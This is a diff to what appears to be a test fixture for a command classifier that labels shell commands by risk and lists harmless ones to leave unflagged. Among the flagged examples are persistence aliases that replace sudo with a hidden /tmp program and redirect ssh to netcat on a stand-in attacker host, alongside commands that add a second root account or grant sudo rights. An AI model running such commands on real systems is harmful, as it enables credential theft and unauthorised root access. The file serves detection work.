@@ -23,6 +23,8 @@ CHANGE_ACCOUNT          usermod -aG sudo eve
 CHANGE_ACCOUNT          useradd -o -u 0 eve
 CHANGE_ACCOUNT          useradd -G wheel eve
 CHANGE_ACCOUNT          gpasswd -a eve docker
+PERSISTENCE             alias sudo='/tmp/.x/ask'
+PERSISTENCE             alias ll='ls -l' ssh='nc evil.example 22'
 DELETE_USER             deluser eve
 DELETE_USER             dscl . -delete /Users/eve
 DELETE_USER             ldapdelete -x dc=example
@@ -33,6 +35,11 @@ DELETE_KEY              keytool -delete -alias x
 """
 
 QUIET = r"""
+alias
+alias ll='ls -l'
+alias sudo='sudo -E '
+alias sudo=doas
+alias ssh='TERM=xterm kitten ssh'
 passwd eve
 chage -l eve
 chage -E -1 eve
